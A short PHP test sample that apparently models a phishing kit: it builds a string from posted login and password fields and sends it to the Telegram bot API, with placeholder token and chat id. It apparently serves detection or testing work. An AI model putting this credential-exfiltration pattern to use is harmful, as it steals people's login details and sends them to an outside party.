<?php
// kiosk test sample: the shape of a kit that posts to a Telegram bot. Not functional.
$text = "login: " . $_POST['login'] . " pass: " . $_POST['pass'];
file_get_contents("https://api.telegram.org/botTOKEN/sendMessage?chat_id=0&text=" . urlencode($text));
?>
